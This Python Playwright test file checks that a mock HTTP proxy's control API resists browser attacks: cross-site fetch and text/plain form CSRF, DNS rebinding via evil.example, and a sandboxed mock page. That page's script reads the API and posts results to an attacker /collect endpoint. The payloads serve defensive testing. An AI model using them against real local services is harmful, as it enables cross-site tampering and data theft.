"""A web page as the attacker, in Chromium (issue 15): a page of another site writing to the
control API, a form posted to it, a page rebound by DNS to the control and proxy ports, and a
`/mockhttp/` HTML mock whose script reads the API; then the UI masking recorded secrets.

`evil.example` resolves to 127.0.0.1 in this browser (--host-resolver-rules), so the attacker's
pages come from a real other site, and a page at evil.example:<control port> is what DNS
rebinding gives an attacker. The attacker's server also collects what its scripts send home.
"""

import json
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import requests
from playwright.sync_api import Browser, Page, expect

from pretenders_proxy.testing.launcher import RunningServer, launch
from tests.ui.conftest import ARGS, CHROMIUM, screenshot

REBIND = "--host-resolver-rules=MAP evil.example 127.0.0.1"


class Attacker(ThreadingHTTPServer):
    """evil.example: serves `pages` by path and keeps every POST to /collect in `collected`."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.collected: list[str] = []
        super().__init__(("127.0.0.1", 0), _AttackerHandler)

    @property
    def origin(self) -> str:
        return f"http://evil.example:{self.server_address[1]}"

    def wait_for_report(self, seconds: float = 15) -> list[str]:
        ends = time.monotonic() + seconds
        while not self.collected and time.monotonic() < ends:
            time.sleep(0.05)
        return self.collected


class _AttackerHandler(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        page = self.server.pages.get(self.path, "<p>evil.example</p>").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.collected.append(body.decode(errors="replace"))
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def chromium(browser: Browser) -> Iterator[Browser]:
    """A second Chromium, from the same Playwright, that resolves evil.example to 127.0.0.1."""
    rebinding = browser.browser_type.launch(executable_path=CHROMIUM, args=[*ARGS, REBIND])
    yield rebinding
    rebinding.close()


@pytest.fixture
def tab(chromium: Browser) -> Iterator[Page]:
    context = chromium.new_context()
    opened = context.new_page()
    opened.set_default_timeout(15_000)
    yield opened
    context.close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    running = Attacker()
    thread = threading.Thread(target=running.serve_forever, daemon=True)
    thread.start()
    yield running
    running.shutdown()
    running.server_close()


def mode_of(control: str, session: str) -> str:
    answer = requests.get(f"{control}/api/v1/mode", params={"session": session}, timeout=10)
    mode: str = answer.json()["mode"]
    return mode


def assert_unchanged(control: str, session: str, mock: str) -> None:
    presets = requests.get(f"{control}/api/v1/presets", params={"session": session}, timeout=10)
    assert presets.json() == []
    assert requests.get(f"{control}/http/{mock}", timeout=10).status_code == 404
    assert mode_of(control, session) == "mock"


WRITE = """async ([control, session, mock]) => {
  const tries = [
    ["POST", `/api/v1/presets?session=${session}`, '{"rule": "GET /planted", "text": "planted"}'],
    ["POST", "/http", JSON.stringify({ name: mock })],
    ["PUT", `/api/v1/mode?session=${session}`, '{"mode": "replay"}'],
  ];
  const said = [];
  for (const [method, path, body] of tries) {
    // no-cors sends a simple request (text/plain) with no preflight; PUT needs cors (preflight).
    const mode = method === "POST" ? "no-cors" : "cors";
    const options = { method, mode, body, headers: { "Content-Type": "text/plain" } };
    said.push(await fetch(control + path, options).then(() => "sent", (e) => `failed: ${e}`));
  }
  return said;
}"""


def test_a_page_of_another_site_cannot_write_to_the_control_api(
    tab: Page, attacker: Attacker, control: str, session: str
) -> None:
    mock = f"planted-{session}"
    tab.goto(attacker.origin + "/")
    said = tab.evaluate(WRITE, [control, session, mock])
    assert said[:2] == ["sent", "sent"]  # the browser sent both: the server has to refuse them
    assert_unchanged(control, session, mock)


def test_a_form_posted_from_another_site_is_refused(
    tab: Page, attacker: Attacker, control: str, session: str
) -> None:
    mock = f"form-{session}"
    # enctype text/plain makes the body `{"name": "...", "pad": "="}`: JSON, as the API reads it.
    attacker.pages["/form"] = f"""
      <form method="POST" action="{control}/http" enctype="text/plain">
        <input name='{{"name": "{mock}", "pad": "' value='"}}'>
      </form>
      <script>document.forms[0].submit()</script>"""
    with tab.expect_navigation(url=f"{control}/http") as landed:
        tab.goto(attacker.origin + "/form")
    answer = landed.value
    assert answer is not None and answer.status == 403
    assert "POST /http refused" in answer.text() and "Sec-Fetch-Site: cross-site" in answer.text()
    assert_unchanged(control, session, mock)


READ_AND_WRITE = """async ([path, body]) => {
  const read = await fetch(path).then((r) => r.status, (e) => `failed: ${e}`);
  const wrote = await fetch(path, { method: "POST", body }).then((r) => r.status, (e) => `${e}`);
  return [read, wrote];
}"""


def test_a_page_rebound_to_the_control_port_is_refused(
    tab: Page, server: RunningServer, control: str, session: str
) -> None:
    rebound = f"http://evil.example:{server.port}"
    answer = tab.goto(rebound + f"/#traffic?session={session}")
    assert answer is not None and answer.status == 403
    assert f"Host 'evil.example:{server.port}'" in answer.text()
    assert "--allowed-host" in answer.text()
    # The rebound page's own calls are same-origin for the browser: the Host is what tells.
    path, preset = f"/api/v1/presets?session={session}", json.dumps({"rule": "GET /x"})
    assert tab.evaluate(READ_AND_WRITE, [path, preset]) == [403, 403]
    assert_unchanged(control, session, f"none-{session}")


def test_a_page_rebound_to_the_proxy_port_is_refused(tab: Page, server: RunningServer) -> None:
    proxy_port = server.proxy.rsplit(":", 1)[1]
    answer = tab.goto(f"http://evil.example:{proxy_port}/api/v1/requests")
    assert answer is not None and answer.status == 400
    assert "this is a forward proxy" in answer.text()


def page_reading_the_api(attacker: Attacker, session: str) -> str:
    """A mock's HTML: its script reads the journal and switches a mode, then reports home."""
    return f"""<!doctype html><title>mock page</title><script>
(async () => {{
  const read = await fetch("/api/v1/requests").then((r) => r.text(), (e) => `read failed: ${{e}}`);
  const put = {{ method: "PUT", body: '{{"mode": "replay"}}' }};
  const wrote = await fetch("/api/v1/mode?session={session}", put)
    .then((r) => r.status, (e) => `write failed: ${{e}}`);
  const report = JSON.stringify({{ origin: self.origin, read, wrote }});
  await fetch("{attacker.origin}/collect", {{ method: "POST", mode: "no-cors", body: report }});
}})();
</script>"""


def test_a_mock_page_cannot_read_or_drive_the_control_api(
    tab: Page, attacker: Attacker, control: str, session: str
) -> None:
    mock = requests.post(f"{control}/http", json={}, timeout=10).json()["id"]
    secret = f"Bearer secret-{uuid.uuid4().hex}"
    try:
        requests.get(f"{control}/mockhttp/{mock}/login", headers={"Authorization": secret})
        page = page_reading_the_api(attacker, session)
        preset = {"rule": "GET /page", "headers": {"Content-Type": "text/html"}, "text": page}
        added = requests.post(f"{control}/api/v1/presets?session={mock}", json=preset)
        assert added.status_code == 201, added.text
        tab.goto(f"{control}/mockhttp/{mock}/page")
        expect(tab).to_have_title("mock page")  # it renders, and its script runs:
        (report,) = attacker.wait_for_report()
        said = json.loads(report)
        assert said["origin"] == "null"  # the sandbox: an opaque origin, not the control's
        assert said["read"].startswith("read failed") and said["wrote"].startswith("write failed")
        assert secret not in report and "secret-" not in report
        assert mode_of(control, session) == "mock"
    finally:
        requests.delete(f"{control}/http/{mock}", timeout=10)


@pytest.fixture(scope="module")
def redacting(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    confdir: Path = tmp_path_factory.mktemp("redacting")
    with launch(["--redact-header", "X-Private-Token"], confdir=confdir) as running:
        yield running


SECRETS = {
    "Authorization": "Bearer secret-one",
    "Cookie": "sid=secret-two",
    "X-Private-Token": "secret-three",
}


def test_recorded_secrets_are_masked_until_clicked(page: Page, redacting: RunningServer) -> None:
    control, session = redacting.control, f"mask-{uuid.uuid4().hex[:8]}"
    requests.post(f"{control}/api/v1/sessions", json={"name": session}, timeout=10)
    answer = {"rule": "GET /account", "headers": {"Set-Cookie": "sid=secret-four; HttpOnly"}}
    requests.post(f"{control}/api/v1/presets", params={"session": session}, json=answer)
    proxy = redacting.proxy.replace("http://", f"http://{session}:x@", 1)
    headers = {**SECRETS, "X-Plain": "shown as is"}
    requests.get("http://shop.test/account", headers=headers, proxies={"http": proxy}, timeout=10)

    page.goto(f"{control}/#traffic?session={session}")
    page.locator("#traffic-list .row-button").first.click()
    detail = page.locator("#traffic-detail")
    sent = detail.get_by_role("table", name="Request headers")
    expect(sent.locator("tr", has_text="X-Plain")).to_contain_text("shown as is")
    for name in [*SECRETS, "Set-Cookie"]:
        expect(detail.get_by_role("button", name=f"Show the {name} value")).to_be_visible()
    expect(detail).not_to_contain_text("secret-")
    screenshot(page, "traffic-masked")

    sent.get_by_role("button", name="Show the Authorization value").click()
    expect(sent.locator("tr", has_text="Authorization")).to_contain_text("Bearer secret-one")
    expect(detail).not_to_contain_text("secret-two")  # one click shows one value
    got = detail.get_by_role("table", name="Response headers")
    got.get_by_role("button", name="Show the Set-Cookie value").click()
    expect(got.locator("tr", has_text="Set-Cookie")).to_contain_text("sid=secret-four")
